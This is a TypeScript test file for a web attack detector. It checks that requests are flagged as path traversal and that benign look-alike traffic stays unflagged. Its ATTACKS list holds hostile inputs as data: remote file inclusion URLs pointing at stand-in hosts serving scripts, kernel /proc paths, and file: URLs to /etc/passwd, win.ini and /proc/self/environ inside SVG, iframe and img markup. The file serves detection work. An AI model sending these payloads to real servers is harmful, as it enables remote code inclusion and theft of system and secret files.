/**
 * Remote file inclusion named by the URL or by the parameter, the kernel's files under /proc in a
 * request path, and a system file as a `file:` URL in markup a server renders (docs/detection.md,
 * "Markup, references and navigation (branch i18-markup)"). Each attack was missed before this
 * branch; beside each class, the links, return targets, routes and pasted markup of ordinary
 * traffic stay quiet.
 */
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { AttackDetector } from '../../../node/analysis/attacks';
import type { AttackClass } from '../../../node/records/types';
import { RELAXED, tx } from './helpers';

const detector = new AttackDetector(RELAXED);
const classes = (target: string, body?: string): AttackClass[] => [
  ...new Set(
    detector
      .detect(
        tx({
          method: body === undefined ? 'GET' : 'POST',
          target,
          headers: [
            ['Host', 'shop.example'],
            ...(body === undefined ? [] : [['Content-Type', 'application/json'] as [string, string]]),
          ],
          body,
        }),
      )
      ?.hits.map((h) => h.class) ?? [],
  ),
];

/** [class, request target or JSON body]: each missed before this branch. */
const ATTACKS: Array<[string, string, string?]> = [
  ['a PHP script on a literal address', '/thumb.php?src=http://66.240.183.75/crash.php'],
  ['a PHP script on an IPv6 literal', '/ajax?src=https://[2001:41d0:701:1100::29c8]/gecko.php'],
  ['a text file on a literal address, in JSON', '/api/render', '{"template":"http://198.51.100.7/shell.txt"}'],
  ['a remote URL as the absolute path code is included from', '/show_image.php?mosConfig_absolute_path=https://foo.bar'],
  ['a remote URL as the root path', '/index.php?phpbb_root_path=ftp://files.example/x/'],
  ['a remote URL as the include directory, in JSON', '/api/setup', '{"include_dir":"http://evil.example/"}'],
  ["the kernel's interrupts file in the path", '/get/proc/interrupts'],
  ["the kernel's TCP table in the path", '/files/proc/net/tcp'],
  // A system file as a `file:` URL in markup a server renders (SVG rasterizers, HTML-to-PDF).
  [
    'an SVG image of the password file, in JSON',
    '/api/render',
    '{"svg":"<svg><image xlink:href=\\"file:///etc/passwd\\"/></svg>"}',
  ],
  ['an iframe of win.ini', '/pdf?html=' + encodeURIComponent('<iframe src="file:///c:/windows/win.ini"></iframe>')],
  ["an image of the process's environment", '/pdf?html=' + encodeURIComponent('<img src=file:///proc/self/environ>')],
];
for (const [what, target, body] of ATTACKS) {
  test(`ptrav: ${what}: ${target} ${body ?? ''}`, () => {
    assert.ok(classes(target, body).includes('ptrav'), `${target} ${body ?? ''}`);
  });
}

/** Links, return targets and routes of ordinary traffic. */
const QUIET: Array<[string, string, string?]> = [
  ['a page on a literal address', '/go?url=http://203.0.113.5/index.html'],
  ['an image on a literal address', '/thumb?src=http://203.0.113.5/a.jpg'],
  ["a login flow's return to a script on an address", '/login?redirect_uri=http://203.0.113.5/cb.php'],
  ['a link to a forum page by name', '/share?link=https://forum.example/viewtopic.php?t=5'],
  ["an image's path", '/api/avatar?image_path=https://cdn.example/a.png'],
  ['a base path to a CDN', '/settings?base_path=https://cdn.example/assets/'],
  ['a root path that is a local directory, in JSON', '/api/setup', '{"include_dir":"includes/"}'],
  ['a route named like a kernel file it is not', '/docs/proc/version'],
  ['a process page of an admin tool', '/admin/proc/status'],
  [
    "Word's pasted image of the user's own disk",
    '/api/post',
    '{"html":"<p><img src=\\"file:///C:/Users/anna/AppData/Local/Temp/msohtmlclip1/01/clip_image001.png\\"></p>"}',
  ],
  ["a link to the user's own notes", '/api/post', '{"html":"<a href=\\"file:///home/anna/notes.txt\\">notes</a>"}'],
  ['prose naming a file URL', '/search?q=' + encodeURIComponent('Open file:///etc/passwd in the browser')],
];
for (const [what, target, body] of QUIET) {
  test(`quiet: ${what}: ${target} ${body ?? ''}`, () => {
    assert.deepEqual(classes(target, body), [], `${target} ${body ?? ''}`);
  });
}
